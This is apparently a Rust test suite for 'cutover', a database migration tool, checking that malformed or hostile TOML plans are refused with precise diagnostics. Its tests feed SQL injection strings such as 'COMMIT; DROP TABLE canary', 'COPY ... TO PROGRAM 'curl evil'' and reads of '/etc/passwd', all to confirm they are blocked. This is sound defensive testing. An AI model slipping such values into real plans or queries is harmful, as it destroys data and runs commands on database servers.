//! Plan loading: the example plans are valid; each broken plan is reported at its line:col.

use cutover::plan::{Phase, Plan, PlanError};

use crate::common::plans::{demo_with, example_plan_paths, DEMO_PLAN};

#[test]
fn example_plans_load() {
    for path in example_plan_paths() {
        let plan = Plan::load(&path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
        assert!(!plan.sha256().is_empty());
        assert!(
            plan.phase(Phase::Contract).irreversible,
            "{}",
            path.display()
        );
        for phase in [Phase::Expand, Phase::DualWrite] {
            assert!(
                plan.phase(phase).reversible(),
                "{}: {phase}",
                path.display()
            );
        }
    }
}

/// Each broken plan with the `line:col` and a fragment of the message it must produce.
const BROKEN: &[(&str, &str, &str)] = &[
    ("bad_toml.toml", "5:32", "invalid basic string"),
    ("unknown_key.toml", "79:1", "unknown field `workrs`"),
    (
        "wrong_type.toml",
        "78:11",
        "invalid type: string \"two\", expected u32",
    ),
    (
        "dangling_check.toml",
        "132:29",
        "unknown check `balance-drfit`",
    ),
    (
        "missing_rollback.toml",
        "34:9",
        "phase `dual_write` has no rollback",
    ),
    (
        "unknown_role.toml",
        "139:21",
        "role `dba`, which is not in the roster",
    ),
    (
        "bad_duration.toml",
        "77:21",
        "invalid duration `300 parsecs`",
    ),
    (
        "unknown_check_kind.toml",
        "109:1",
        "unknown variant `invariants`",
    ),
    ("bad_window.toml", "27:15", "invalid time `25:00`"),
    (
        "pending_injection.toml",
        "76:33",
        "`pending`: an expression may not contain `;`",
    ),
    ("commit_in_script.toml", "69:5", "transaction control"),
    (
        "timeout_too_long.toml",
        "16:21",
        "`statement_timeout` is too long",
    ),
    (
        "authorization_unknown_role.toml",
        "169:12",
        "`advance` is allowed to role `ghost`, which is not in the roster",
    ),
    (
        "third_check_wrong_type.toml",
        "112:10",
        "check `no-negative-balance`: invalid type: string \"none\"",
    ),
];

#[test]
fn broken_plans_report_line_and_column() {
    for (file, at, fragment) in BROKEN {
        let path = format!("tests/plans/broken/{file}");
        let err = Plan::load(&path).expect_err(file);
        let PlanError::Invalid(diags) = &err else {
            panic!("{file}: unexpected error {err}");
        };
        let text = err.to_string();
        let expected = format!("{path}:{at}: ");
        assert!(
            diags
                .iter()
                .any(|d| d.to_string().starts_with(&expected) && d.message.contains(fragment)),
            "{file}: expected `{expected}…{fragment}`, got:\n{text}"
        );
    }
}

#[test]
fn broken_plans_fail_the_cli_with_their_location() {
    for (file, at, _) in BROKEN {
        let path = format!("tests/plans/broken/{file}");
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
            .args(["validate", "--offline", &path])
            .output()
            .expect("run cutover");
        assert_eq!(out.status.code(), Some(2), "{file}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            stderr.contains(&format!("{path}:{at}: ")),
            "{file}: {stderr}"
        );
    }
}

#[test]
fn every_semantic_error_is_reported_not_just_the_first() {
    let broken = demo_with(&[
        (
            "signoffs = [\"lead\", \"sre\"]",
            "signoffs = [\"lead\", \"dba\"]",
        ),
        ("\"no-negative-balance\"]", "\"no-such-check\"]"),
        ("workers = 1", "workers = 0"),
    ]);
    let Err(PlanError::Invalid(diags)) = Plan::parse("x.toml", &broken) else {
        panic!("expected errors");
    };
    assert_eq!(diags.len(), 3, "{diags:#?}");
}

#[test]
fn validate_help_explains_itself() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
        .args(["validate", "--help"])
        .output()
        .expect("run cutover");
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("file:line:col"), "{text}");
}

/// The byte offset of a diagnostic's line and (character) column in `source`.
fn offset_of(source: &str, d: &cutover::plan::Diagnostic) -> usize {
    let line_start: usize = source
        .split_inclusive('\n')
        .take(d.line - 1)
        .map(str::len)
        .sum();
    let rest = &source[line_start..];
    line_start
        + rest
            .char_indices()
            .nth(d.col - 1)
            .map_or(rest.len(), |(i, _)| i)
}

fn diagnostics(source: &str) -> Vec<cutover::plan::Diagnostic> {
    match Plan::parse("hostile.toml", source) {
        Err(PlanError::Invalid(d)) => d,
        Err(other) => panic!("unexpected error: {other}"),
        Ok(_) => panic!("the plan was accepted"),
    }
}

/// Asserts that some diagnostic whose message contains `fragment` points exactly at `needle`
/// (the only occurrence of it in `source`).
#[track_caller]
fn points_at(source: &str, diags: &[cutover::plan::Diagnostic], needle: &str, fragment: &str) {
    assert_eq!(
        source.matches(needle).count(),
        1,
        "needle `{needle}` must be unique"
    );
    let at = source.find(needle).unwrap_or(0);
    let all: Vec<String> = diags.iter().map(ToString::to_string).collect();
    assert!(
        diags
            .iter()
            .any(|d| d.message.contains(fragment) && offset_of(source, d) == at),
        "no diagnostic `…{fragment}…` at `{needle}` (line {}); got:\n{}",
        source[..at].matches('\n').count() + 1,
        all.join("\n")
    );
}

/// Every SQL field that could carry an escape, all hostile at once: each is refused, in one
/// run, at the exact character inside its (basic, literal or multi-line) TOML string.
#[test]
fn hostile_sql_in_every_field_is_refused_at_its_place_in_one_run() {
    let source = demo_with(&[
        (
            "apply = \"ALTER TABLE public.accounts ADD COLUMN balance_cents bigint;\"",
            "apply = \"ALTER TABLE \\\"public\\\".accounts ADD COLUMN balance_cents bigint;\\tCOMMIT; DROP TABLE canary;\"",
        ),
        ("    RETURN NEW;\nEND\n$$;\n", "    RETURN NEW;\nEND\n$$;\nEND;\n"),
        (
            "rollback = \"ALTER TABLE public.accounts DROP COLUMN balance_cents;\"",
            "rollback = '''\nSET ROLE postgres;\n\\connect other\n'''",
        ),
        (
            "ALTER TABLE public.accounts DROP COLUMN balance;\n\"\"\"",
            "ALTER TABLE public.accounts DROP COLUMN balance;\nDO $$ BEGIN PERFORM 1; ROLLBACK; END $$;\nCOPY public.accounts TO PROGRAM 'curl evil';\nRESET ALL;\n\"\"\"",
        ),
        (
            "pending = \"balance_cents IS NULL\"",
            "pending = \"balance_cents IS NULL; COMMIT; DROP TABLE canary; --\"",
        ),
        (
            "set = { balance_cents = \"round(balance * 100)::bigint\" }",
            "set = { balance_cents = \"round(balance * 100)::bigint) FROM canary; --\" }",
        ),
        (
            "pause_on_vacuum = true",
            "pause_on_vacuum = true\ncustom_query = \"SELECT 1; ROLLBACK PREPARED 'x'\"",
        ),
        (
            "expression = \"round(balance * 100)::bigint\"",
            "expression = \"round(balance * 100)::bigint /* ) OR (true */ ) OR (true\"",
        ),
        (
            "sql = \"SELECT count(*) FROM public.accounts WHERE balance_cents < 0\"",
            "sql = \"SELECT count(*) FROM public.accounts WHERE balance_cents < 0; SAVEPOINT sp\"",
        ),
        (
            "query = \"SELECT count(*) FROM public.accounts WHERE created_at < '2026-01-01'\"",
            "query = \"SELECT count(*) FROM public.accounts; DROP TABLE canary\"",
        ),
        (
            "sql = \"SELECT id, owner, balance FROM public.accounts WHERE id = $1\"",
            "sql = \"SELECT id, owner, balance FROM public.accounts WHERE id = $1; START TRANSACTION\"",
        ),
        (
            "max_deadlocks = 0",
            "max_deadlocks = 0\nmetric_query = \"COPY public.accounts FROM '/etc/passwd'\"",
        ),
    ]);
    let diags = diagnostics(&source);
    points_at(
        &source,
        &diags,
        "COMMIT; DROP TABLE canary;\"",
        "transaction control",
    );
    points_at(
        &source,
        &diags,
        "END;\nCREATE TRIGGER",
        "transaction control",
    );
    points_at(&source, &diags, "SET ROLE postgres", "role");
    points_at(&source, &diags, "\\connect other", "meta-command");
    points_at(&source, &diags, "ROLLBACK; END $$", "DO block");
    points_at(
        &source,
        &diags,
        "COPY public.accounts TO PROGRAM",
        "shell command",
    );
    points_at(&source, &diags, "RESET ALL", "Cutover's");
    points_at(&source, &diags, "; COMMIT; DROP TABLE canary; --", "`;`");
    points_at(&source, &diags, ") FROM canary", "closes a parenthesis");
    points_at(&source, &diags, "ROLLBACK PREPARED", "transaction control");
    points_at(&source, &diags, ") OR (true\"", "closes a parenthesis");
    points_at(&source, &diags, "SAVEPOINT sp", "transaction control");
    points_at(&source, &diags, "DROP TABLE canary\"", "only one statement");
    points_at(&source, &diags, "START TRANSACTION", "transaction control");
    points_at(&source, &diags, "COPY public.accounts FROM", "server file");
    for d in &diags {
        assert!(d.to_string().starts_with("hostile.toml:"), "{d}");
        assert!(d.to_string().contains(": error: "), "{d}");
    }
}

/// Structural problems are all reported in one run, each at its own element.
#[test]
fn structural_errors_are_all_reported_at_their_element() {
    let source = demo_with(&[
        ("expect = 0", "expect = \"zero\""),
        ("old = \"balance * 100\"\n", ""),
        (
            "table = \"public.accounts\"\nkey = [\"id\"]\nset",
            "key = [\"id\"]\nset",
        ),
        ("pending = \"balance_cents IS NULL\"\n", ""),
        ("title = ", "titel = "),
        ("max_lock_waiters = 8", "max_lock_waiters = -1"),
        ("params = [\"1\"]", "params = [1]"),
    ]);
    let diags = diagnostics(&source);
    points_at(
        &source,
        &diags,
        "\"zero\"",
        "check `no-negative-balance`: invalid type",
    );
    points_at(&source, &diags, "\"null_drift\"", "missing field `old`");
    points_at(&source, &diags, "[backfill]\n", "missing field `table`");
    // `pending` is required by update mode only: a semantic check, reported once the
    // structure parses (see plan::backfill_modes_are_validated_at_their_keys).
    points_at(&source, &diags, "titel", "unknown field `titel`");
    points_at(&source, &diags, "-1", "invalid value");
    points_at(&source, &diags, "1]", "invalid type");
    let missing_title = diags
        .iter()
        .any(|d| d.message.contains("missing field `title`"));
    assert!(missing_title, "{diags:#?}");
}

/// Durations past PostgreSQL's INT_MAX milliseconds, non-finite or out-of-range numbers,
/// inverted bounds and control characters in names: all in one run.
#[test]
fn limits_numbers_and_names_are_checked_in_one_run() {
    let source = demo_with(&[
        (
            "statement_timeout = \"60s\"",
            "statement_timeout = \"999999999999h\"",
        ),
        ("lock_timeout = \"2s\"", "lock_timeout = \"25d\""),
        ("max_latency_ratio = 1.2", "max_latency_ratio = nan"),
        (
            "max_rollback_increase_pp = 0.5",
            "max_rollback_increase_pp = -0.5",
        ),
        ("expect = 0", "min = 5.0\nmax = 1.0"),
        (
            "pause_on_vacuum = true",
            "pause_on_vacuum = true\nmax_wal_mib_per_second = inf\nmax_app_latency_ratio = 1.00\nmax_chunk_wal_mib = -0.25\nmin_slot_safe_wal_percent = 250.5",
        ),
        (
            "flag = \"accounts.read_balance_cents\"",
            "flag = \"accounts.\\u0007bell\"",
        ),
        ("key = [\"id\"]\nset", "key = [\"\"]\nset"),
        ("workers = 1", "workers = 1\nidle_workers = 65"),
        (
            "[[checks]]\nname = \"balance-parity\"",
            "[[checks]]\nname = \"balance-parity\"\ntimeout = \"0s\"",
        ),
    ]);
    let diags = diagnostics(&source);
    points_at(&source, &diags, "\"999999999999h\"", "too long");
    points_at(&source, &diags, "\"25d\"", "too long");
    points_at(&source, &diags, "nan", "finite");
    points_at(&source, &diags, "-0.5", "between 0 and 100");
    points_at(&source, &diags, "5.0\nmax = 1.0", "greater than `max`");
    points_at(&source, &diags, "inf", "finite");
    points_at(&source, &diags, "1.00", "finite number above 1");
    points_at(&source, &diags, "-0.25", "finite number above 0");
    points_at(&source, &diags, "250.5", "above 0 and below 100");
    points_at(&source, &diags, "\\u0007bell", "control character");
    points_at(&source, &diags, "\"\"]\nset", "must not be empty");
    points_at(&source, &diags, "\"0s\"", "greater than zero");
    points_at(&source, &diags, "65", "between 1 and 64");
}

fn validate_cli(path: &std::path::Path) -> (Option<i32>, String, std::time::Duration) {
    let started = std::time::Instant::now();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
        .arg("validate")
        .arg("--offline")
        .arg(path)
        .output()
        .expect("run cutover");
    (
        out.status.code(),
        String::from_utf8_lossy(&out.stderr).to_string(),
        started.elapsed(),
    )
}

/// Directories, devices, FIFOs, oversized files and invalid UTF-8 are refused promptly with
/// exit 2 and a located `error:` line.
#[test]
fn unreadable_plan_files_are_refused_promptly() {
    let dir = tempfile::tempdir().expect("tempdir");
    let fifo = dir.path().join("plan.fifo");
    let made = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .expect("mkfifo");
    assert!(made.success());
    let big = dir.path().join("big.toml");
    std::fs::File::create(&big)
        .and_then(|f| f.set_len(cutover::plan::MAX_PLAN_BYTES + 1))
        .expect("sparse file");
    let latin1 = dir.path().join("latin1.toml");
    std::fs::write(&latin1, b"id = \"x\"\n# caf\xe9\n").expect("write");
    for (path, fragment) in [
        (dir.path().to_path_buf(), "a directory"),
        (std::path::PathBuf::from("/dev/zero"), "a device"),
        (fifo, "a FIFO"),
        (big, "larger than"),
        (latin1.clone(), "invalid UTF-8"),
    ] {
        let (code, stderr, took) = validate_cli(&path);
        assert_eq!(code, Some(2), "{}: {stderr}", path.display());
        assert!(stderr.contains(fragment), "{}: {stderr}", path.display());
        assert!(stderr.contains(": error: "), "{stderr}");
        assert!(took < std::time::Duration::from_secs(5), "{took:?}");
    }
    let (_, stderr, _) = validate_cli(&latin1);
    assert!(
        stderr.contains("latin1.toml:2:6: error: invalid UTF-8"),
        "{stderr}"
    );
}

/// A database with the demo schema and a `canary` table that no plan may touch.
async fn canary_db() -> crate::common::TestDb {
    let db = crate::common::TestDb::new().await;
    let schema = std::fs::read_to_string("assets/demo/schema.sql").expect("demo schema");
    db.exec(&schema).await;
    db.exec("SELECT cutover_demo_seed(50, 5, 5); CREATE TABLE canary (id int); INSERT INTO canary VALUES (1);")
        .await;
    db
}

/// The canary is still there with its row, and `column` was never added to the accounts.
async fn assert_untouched(client: &tokio_postgres::Client, column: &str) {
    let row = client
        .query_one(
            "SELECT to_regclass('public.canary') IS NOT NULL,
                    (SELECT count(*) FROM pg_attribute
                      WHERE attrelid = 'public.accounts'::regclass AND attname = $1 AND NOT attisdropped)",
            &[&column],
        )
        .await
        .expect("catalog query");
    assert!(row.get::<_, bool>(0), "the canary table was dropped");
    assert_eq!(row.get::<_, i64>(1), 0, "column `{column}` was committed");
    let n: i64 = client
        .query_one("SELECT count(*) FROM canary", &[])
        .await
        .expect("canary")
        .get(0);
    assert_eq!(n, 1, "the canary lost its row");
}

/// The demo plan without gates and checks, so a phase can be applied directly.
fn ungated_demo() -> Plan {
    let mut plan = Plan::load(DEMO_PLAN).expect("demo plan");
    plan.spec.gates.clear();
    plan.spec.checks.clear();
    plan
}

const ESCAPE: &str =
    "ALTER TABLE public.accounts ADD COLUMN escaped int; COMMIT; DROP TABLE canary;";

/// Every escape is refused by `cutover validate` with a database configured, and nothing it
/// names reaches the server: the canary survives and no DDL is committed.
#[tokio::test]
async fn validation_with_a_database_refuses_every_escape_and_changes_nothing() {
    let db = canary_db().await;
    let dir = tempfile::tempdir().expect("tempdir");
    let cases: [(&str, &str); 5] = [
        (
            "apply = \"ALTER TABLE public.accounts ADD COLUMN balance_cents bigint;\"",
            "apply = \"ALTER TABLE public.accounts ADD COLUMN escaped int; COMMIT; DROP TABLE canary;\"",
        ),
        (
            "pending = \"balance_cents IS NULL\"",
            "pending = \"balance_cents IS NULL; COMMIT; DROP TABLE canary; --\"",
        ),
        (
            "set = { balance_cents = \"round(balance * 100)::bigint\" }",
            "set = { balance_cents = \"1); COMMIT; DROP TABLE canary; --\" }",
        ),
        (
            "sql = \"SELECT id, owner, balance FROM public.accounts WHERE id = $1\"",
            "sql = \"SELECT 1; COMMIT; DROP TABLE canary\"",
        ),
        (
            "query = \"SELECT count(*) FROM public.accounts WHERE created_at < '2026-01-01'\"",
            "query = \"SELECT 1) AS golden; COMMIT; DROP TABLE canary; --\"",
        ),
    ];
    for (i, (from, to)) in cases.iter().enumerate() {
        let path = dir.path().join(format!("escape-{i}.toml"));
        std::fs::write(&path, demo_with(&[(from, to)])).expect("write plan");
        let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_cutover"))
            .arg("validate")
            .arg(&path)
            .env("DATABASE_URL", &db.url)
            .output()
            .await
            .expect("run cutover");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{to}: {stderr}");
        assert!(stderr.contains(": error: "), "{stderr}");
    }
    assert_untouched(&db.client().await, "escaped").await;
}

/// With validation bypassed (the plan's SQL edited after loading), the apply runner, the
/// rehearsal, the live-catalog check and the compatibility probe still send nothing that ends
/// their transaction, and the phase is failed with the reason.
#[tokio::test]
async fn runtime_guards_hold_when_validation_is_bypassed() {
    use cutover::control::audit::Actor;
    use cutover::db::{self, DbConfig, SessionSettings};
    use cutover::engine::{self, EngineError, RunOptions};

    let db = canary_db().await;
    let cfg = DbConfig::from_url(&db.url).expect("url");
    let mut c = db::connect(&cfg, &SessionSettings::new("test"))
        .await
        .expect("connect");
    cutover::control::schema::bootstrap(&mut c)
        .await
        .expect("bootstrap");
    let actor = Actor::current(&c).await.expect("actor");

    let mut plan = ungated_demo();
    plan.spec.phases.expand.apply = ESCAPE.to_string();
    let err = engine::apply_phase(&mut c, &plan, &actor, Phase::Expand, &RunOptions::default())
        .await
        .expect_err("the escape must fail the phase");
    assert!(matches!(err, EngineError::Ddl(_)), "{err}");
    assert!(err.to_string().contains("transaction control"), "{err}");
    let state: String = c
        .query_one(
            "SELECT state FROM cutover.phases WHERE plan_id = $1 AND phase = 'expand'",
            &[&plan.id()],
        )
        .await
        .expect("phase row")
        .get(0);
    assert_eq!(state, "failed");
    assert_untouched(&c, "escaped").await;

    let mut plan = ungated_demo();
    plan.spec.phases.dual_write.apply = ESCAPE.to_string();
    let r = engine::rehearse(&mut c, &plan, &actor)
        .await
        .expect("rehearsal runs");
    assert!(!r.ok);
    let step = r.phases[1].apply.as_ref().expect("dual_write rehearsed");
    assert!(
        step.error.as_deref().is_some_and(|e| e.contains("refused")),
        "{step:?}"
    );
    assert_untouched(&c, "escaped").await;

    let mut plan = ungated_demo();
    if let Some(b) = plan.spec.backfill.as_mut() {
        b.pending = "balance_cents IS NULL; COMMIT; DROP TABLE canary; --".into();
    }
    plan.spec.phases.dual_write.apply =
        "ALTER TABLE public.nowhere ADD COLUMN x int; SELECT 1; COMMIT".into();
    let problems = cutover::checks::catalog::check_plan(&mut c, &plan, Default::default())
        .await
        .expect("catalog check runs");
    assert!(
        problems.iter().any(|p| p.message.contains("pending")),
        "{problems:?}"
    );
    assert!(
        problems.iter().any(|p| p.message.contains("refused")),
        "{problems:?}"
    );
    assert_untouched(&c, "escaped").await;

    let hostile = cutover::plan::CompatQuery {
        name: "escape".into(),
        sql: "SELECT 1; COMMIT; DROP TABLE canary".into(),
        params: Vec::new(),
    };
    let outcomes = cutover::evidence::compat::run_queries(&c, &[hostile], (5_000, 1_000))
        .await
        .expect("probe runs");
    assert!(outcomes[0].result.is_err(), "{:?}", outcomes[0].result);
    assert_untouched(&c, "escaped").await;
}

/// The transaction mark the runners use tells a statement that ended the transaction from
/// one that stayed inside it (savepoints included).
#[tokio::test]
async fn a_transaction_mark_sees_a_commit() {
    use cutover::db::txmark::TxMark;

    let db = crate::common::TestDb::new().await;
    let client = db.client().await;
    client.batch_execute("BEGIN").await.expect("begin");
    let mark = TxMark::take(&client).await.expect("mark");
    client
        .batch_execute("SAVEPOINT a; CREATE TABLE t (x int); ROLLBACK TO SAVEPOINT a")
        .await
        .expect("savepoint");
    assert_eq!(mark.verify(&client).await.expect("verify"), Ok(()));
    client.batch_execute("COMMIT; BEGIN").await.expect("commit");
    let moved = mark.verify(&client).await.expect("verify");
    assert!(moved.is_err(), "a commit went unnoticed");
    client.batch_execute("COMMIT").await.expect("commit");
    let mark = TxMark::take(&client).await.expect("mark outside a block");
    assert!(
        mark.verify(&client).await.expect("verify").is_err(),
        "autocommit statements are separate transactions"
    );
}

mod fuzz {
    //! Mutated real plans: the loader never panics, answers each case quickly, and every
    //! diagnostic points inside the file.

    use std::time::{Duration, Instant};

    use cutover::plan::{Plan, PlanError};
    use proptest::prelude::*;

    /// Tokens that matter to TOML or to SQL, inserted at random places.
    const TOKENS: &[&str] = &[
        "\"",
        "'",
        "\"\"\"",
        "'''",
        "[",
        "]",
        "[[checks]]\n",
        "[backfill]\n",
        "=",
        "{",
        "}",
        ",",
        ".",
        "\n",
        "\r\n",
        "#",
        "\\",
        "\\u00",
        "\\U0010FFFF",
        "\t",
        "\u{0}",
        "\u{7f}",
        "é",
        "\u{202e}",
        "nan",
        "inf",
        "-1",
        "99999999999999999999",
        "1e999",
        "\"999999999999h\"",
        "true",
        "kind = \"invariant\"\n",
        "name = 3\n",
        "; COMMIT; DROP TABLE canary; --",
        ")",
        "(",
        "$$",
        "/*",
        "*/",
        "--",
        "\\connect x\n",
        "SET ROLE x;",
        "COPY t TO PROGRAM 'x';",
    ];

    #[derive(Debug, Clone)]
    enum Mutation {
        Flip(usize, u8),
        Truncate(usize),
        DeleteLine(usize),
        DuplicateLine(usize),
        Insert(usize, usize),
    }

    fn mutation() -> impl Strategy<Value = Mutation> {
        prop_oneof![
            (any::<usize>(), any::<u8>()).prop_map(|(p, b)| Mutation::Flip(p, b)),
            any::<usize>().prop_map(Mutation::Truncate),
            any::<usize>().prop_map(Mutation::DeleteLine),
            any::<usize>().prop_map(Mutation::DuplicateLine),
            (any::<usize>(), 0..TOKENS.len()).prop_map(|(p, t)| Mutation::Insert(p, t)),
        ]
    }

    fn apply(mut bytes: Vec<u8>, m: &Mutation) -> Vec<u8> {
        let n = bytes.len().max(1);
        match *m {
            Mutation::Flip(p, b) => {
                if let Some(x) = bytes.get_mut(p % n) {
                    *x = b;
                }
            }
            Mutation::Truncate(p) => bytes.truncate(p % n),
            Mutation::DeleteLine(l) | Mutation::DuplicateLine(l) => {
                let mut lines: Vec<Vec<u8>> = bytes
                    .split_inclusive(|b| *b == b'\n')
                    .map(<[u8]>::to_vec)
                    .collect();
                if !lines.is_empty() {
                    let i = l % lines.len();
                    if matches!(m, Mutation::DeleteLine(_)) {
                        lines.remove(i);
                    } else {
                        let line = lines[i].clone();
                        lines.insert(i, line);
                    }
                }
                bytes = lines.concat();
            }
            Mutation::Insert(p, t) => {
                let at = p % (bytes.len() + 1);
                bytes.splice(at..at, TOKENS[t].bytes());
            }
        }
        bytes
    }

    fn plans() -> Vec<Vec<u8>> {
        crate::common::plans::example_plan_paths()
            .iter()
            .map(|p| std::fs::read(p).expect("plan"))
            .collect()
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]

        #[test]
        fn mutated_plans_are_refused_in_place_or_accepted(
            which in 0usize..3,
            mutations in proptest::collection::vec(mutation(), 1..6),
        ) {
            let plans = plans();
            let mut bytes = plans[which % plans.len()].clone();
            for m in &mutations {
                bytes = apply(bytes, m);
            }
            let dir = tempfile::tempdir().expect("tempdir");
            let path = dir.path().join("mutated.toml");
            std::fs::write(&path, &bytes).expect("write");
            let started = Instant::now();
            let result = Plan::load(&path);
            let took = started.elapsed();
            prop_assert!(took < Duration::from_secs(1), "took {took:?}");
            let text = String::from_utf8_lossy(&bytes);
            let lines: Vec<&str> = text.split('\n').collect();
            match result {
                Ok(_) => {}
                Err(PlanError::Invalid(diags)) => {
                    prop_assert!(!diags.is_empty());
                    for d in diags {
                        prop_assert!(d.line >= 1 && d.line <= lines.len(), "{d} (file has {} lines)", lines.len());
                        let width = lines[d.line - 1].chars().count();
                        prop_assert!(d.col >= 1 && d.col <= width + 1, "{d} (line has {width} characters)");
                        prop_assert!(!d.message.is_empty(), "{d}");
                    }
                }
                Err(other) => prop_assert!(false, "not a plan diagnostic: {other}"),
            }
        }
    }
}

/// A plan missing whole tables still has its other tables checked in the same run.
#[test]
fn missing_tables_do_not_hide_errors_elsewhere() {
    let source = "id = \"x\"\nzzz = 1\n[settings]\nlock_timeout = 5\n[windows]\nheavy = 1\n";
    let diags = diagnostics(source);
    for fragment in [
        "missing field `title`",
        "missing field `roster`",
        "missing field `phases`",
        "unknown field `zzz`",
        "unknown field `heavy`",
    ] {
        assert!(
            diags.iter().any(|d| d.message.contains(fragment)),
            "{fragment}: {diags:#?}"
        );
    }
    points_at(source, &diags, "5\n", "invalid type: integer `5`");
}

/// Each backfill mode requires its own keys and refuses the other's, at file:line:col.
#[test]
fn backfill_modes_are_validated_at_their_keys() {
    let update = demo_with(&[(
        "pending = \"balance_cents IS NULL\"\n",
        "into = \"public.x\"\n",
    )]);
    let diags = diagnostics(&update);
    assert!(
        diags
            .iter()
            .any(|d| d.message.contains("missing field `pending`")
                && d.to_string().contains("hostile.toml:81:")),
        "{diags:?}"
    );
    points_at(
        &update,
        &diags,
        "\"public.x\"",
        "applies to `mode = \"copy\"` only",
    );
    let copy = demo_with(&[(
        "pending = \"balance_cents IS NULL\"\n",
        "mode = \"copy\"\ninto = \"public.accounts_v2\"\ncolumns = { n = \"balance\" }\n",
    )]);
    let diags = diagnostics(&copy);
    points_at(
        &copy,
        &diags,
        "set = { balance_cents",
        "`set` applies to `mode = \"update\"` only",
    );
    assert!(
        diags.iter().any(
            |d| d.message.contains("must be mapped from a source column")
                && d.to_string().contains("hostile.toml:83:")
        ),
        "{diags:?}"
    );
}
